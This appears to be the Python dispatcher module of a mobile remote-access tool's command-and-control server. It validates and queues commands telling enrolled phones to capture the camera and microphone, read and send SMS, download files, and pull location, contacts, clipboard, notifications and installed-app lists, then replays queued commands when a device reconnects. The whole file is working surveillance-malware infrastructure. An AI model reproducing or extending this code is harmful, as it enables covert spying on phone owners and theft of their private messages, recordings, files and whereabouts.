"""Command validation, routing and queue replay.

A command for an agent with a live session is transmitted immediately as an
``order`` event; otherwise it is queued in the agent's command queue and replayed
when the agent reconnects. Delivery is fire-and-forget: ``SENT`` means the
transport accepted the frame, nothing more.
"""

from __future__ import annotations

import logging
from collections.abc import Callable, Mapping
from datetime import datetime
from typing import Any

from pydantic import ValidationError

from agenthub._constants import ORDER_EVENT
from agenthub._hashing import new_command_uid
from agenthub.exceptions import (
    CommandError,
    CommandErrorCode,
    DuplicatePendingError,
    InvalidFieldError,
    MissingFieldError,
    StorageIOError,
    TransportError,
    UnknownAgentError,
    UnknownKindError,
)
from agenthub.models._base import utcnow
from agenthub.models.commands import CommandKind, CommandResult, DeliveryOutcome, QueuedCommand
from agenthub.state import CoreState

_logger = logging.getLogger(__name__)

SMS_ACTION_LIST = "ls"
SMS_ACTION_SEND = "sendSMS"
FILES_ACTIONS = frozenset({"ls", "dl"})


def _require(kind: CommandKind, payload: Mapping[str, Any], *fields: str) -> None:
    for name in fields:
        if name not in payload:
            raise MissingFieldError(f"{kind.name} missing `{name}` parameter", kind=kind.value, field=name)


def _validate_sms(payload: Mapping[str, Any]) -> None:
    _require(CommandKind.SMS, payload, "action")
    action = payload["action"]
    if action == SMS_ACTION_LIST:
        return
    if action == SMS_ACTION_SEND:
        _require(CommandKind.SMS, payload, "to", "sms")
        return
    raise InvalidFieldError("SMS `action` parameter incorrect", kind=CommandKind.SMS.value, field="action")


def _validate_files(payload: Mapping[str, Any]) -> None:
    _require(CommandKind.FILES, payload, "action")
    if payload["action"] not in FILES_ACTIONS:
        raise InvalidFieldError("FILES `action` parameter incorrect", kind=CommandKind.FILES.value, field="action")
    _require(CommandKind.FILES, payload, "path")


def _validate_mic(payload: Mapping[str, Any]) -> None:
    _require(CommandKind.MIC, payload, "sec")


def _validate_permission_granted(payload: Mapping[str, Any]) -> None:
    _require(CommandKind.PERMISSION_GRANTED, payload, "permission")


def _no_fields(_payload: Mapping[str, Any]) -> None:
    return None


#: Payload validator per command kind. Every catalog entry must appear here.
COMMAND_VALIDATORS: dict[CommandKind, Callable[[Mapping[str, Any]], None]] = {
    CommandKind.CAMERA: _no_fields,
    CommandKind.FILES: _validate_files,
    CommandKind.CALL: _no_fields,
    CommandKind.SMS: _validate_sms,
    CommandKind.MIC: _validate_mic,
    CommandKind.LOCATION: _no_fields,
    CommandKind.CONTACTS: _no_fields,
    CommandKind.WIFI: _no_fields,
    CommandKind.NOTIFICATION: _no_fields,
    CommandKind.CLIPBOARD: _no_fields,
    CommandKind.INSTALLED_APPS: _no_fields,
    CommandKind.PERMISSIONS: _no_fields,
    CommandKind.PERMISSION_GRANTED: _validate_permission_granted,
}


def validate_command(kind: CommandKind | str, payload: Mapping[str, Any]) -> CommandKind:
    """Resolve *kind* and check *payload* against the command table.

    Raises
    ------
    UnknownKindError
        *kind* is not in the catalog.
    MissingFieldError
        A required payload field is absent.
    InvalidFieldError
        A payload field holds a value the kind does not accept.
    """
    try:
        resolved = CommandKind.parse(kind)
    except ValueError as exc:
        raise UnknownKindError("Command ID Not Found", kind=str(kind)) from exc
    COMMAND_VALIDATORS[resolved](payload)
    return resolved


class CommandDispatcher:
    """Validates commands, sends them to live sessions or queues them.

    All public entry points take the agent's lock. Code that already holds
    it (queue replay during connect) calls :meth:`send_locked`.
    """

    def __init__(self, state: CoreState, *, clock: Callable[[], datetime] = utcnow) -> None:
        self._state = state
        self._clock = clock

    async def send_command(
        self,
        agent_id: str,
        kind: CommandKind | str,
        payload: Mapping[str, Any] | None = None,
    ) -> CommandResult:
        """Validate and route one command; errors come back as a failed result."""
        async with self._state.lock_for(agent_id):
            return await self.send_locked(agent_id, kind, payload)

    async def send_locked(
        self,
        agent_id: str,
        kind: CommandKind | str,
        payload: Mapping[str, Any] | None = None,
    ) -> CommandResult:
        """Same as :meth:`send_command` for callers holding the agent lock."""
        body = dict(payload or {})
        try:
            outcome = await self._route(agent_id, kind, body)
        except CommandError as exc:
            _logger.info("Command %s for %s rejected: %s", kind, agent_id, exc)
            return CommandResult.from_error(exc)
        except TransportError as exc:
            _logger.warning("Command %s for %s failed to transmit: %s", kind, agent_id, exc)
            return CommandResult.failed(CommandErrorCode.TRANSPORT_FAILED, str(exc))
        except StorageIOError as exc:
            _logger.error("Command %s for %s could not be queued: %s", kind, agent_id, exc)
            return CommandResult.failed(CommandErrorCode.STORAGE_IO, str(exc))
        if outcome == DeliveryOutcome.SENT:
            return CommandResult.sent()
        return CommandResult.queued()

    async def _route(self, agent_id: str, kind: CommandKind | str, payload: dict[str, Any]) -> DeliveryOutcome:
        resolved = validate_command(kind, payload)

        if self._state.store.get_agent(agent_id) is None:
            raise UnknownAgentError("Agent doesn't exist!", agent_id=agent_id, kind=resolved.value)

        session = self._state.session(agent_id)
        if session is not None:
            message = {**payload, "type": resolved.value}
            _logger.info("Requested %s from %s", resolved.name, agent_id)
            try:
                await session.transport.send(ORDER_EVENT, message)
            except TransportError:
                raise
            except Exception as exc:
                raise TransportError(f"Transport send failed: {exc}") from exc
            return DeliveryOutcome.SENT

        self._enqueue(agent_id, resolved, payload)
        return DeliveryOutcome.QUEUED

    def _enqueue(self, agent_id: str, kind: CommandKind, payload: dict[str, Any]) -> None:
        queue = self._state.store.agent_data(agent_id).command_queue
        pending = queue.filter()
        if any(entry.get("kind") == kind.value for entry in pending):
            raise DuplicatePendingError(
                "A similar command has already been queued",
                agent_id=agent_id,
                kind=kind.value,
            )
        entry = QueuedCommand(
            uid=new_command_uid({str(e.get("uid")) for e in pending}),
            kind=kind,
            payload=payload,
            enqueued_at=self._clock(),
        )
        queue.push(entry)
        _logger.info("Queued %s for offline agent %s (uid=%s)", kind.name, agent_id, entry.uid)

    async def replay_queue(self, agent_id: str) -> int:
        """Re-send queued commands in insertion order; the caller holds the lock.

        Entries that were sent are removed; failures stay queued for the next
        reconnect. Returns the number of commands sent.
        """
        queue = self._state.store.agent_data(agent_id).command_queue
        entries = queue.filter()
        if not entries:
            return 0

        _logger.info("%s running %d queued commands", agent_id, len(entries))
        sent = 0
        for raw in entries:
            try:
                entry = QueuedCommand.model_validate(raw)
            except ValidationError:
                _logger.error("%s has an unreadable queued command: %s", agent_id, raw)
                continue
            result = await self.send_locked(agent_id, entry.kind, entry.payload)
            if result.outcome != DeliveryOutcome.SENT:
                _logger.error("%s queued command (%s) failed: %s", agent_id, entry.kind.name, result.message)
                continue
            try:
                queue.remove(entry.uid)
            except StorageIOError:
                _logger.exception("%s sent queued command %s but could not dequeue it", agent_id, entry.uid)
                continue
            sent += 1
        return sent
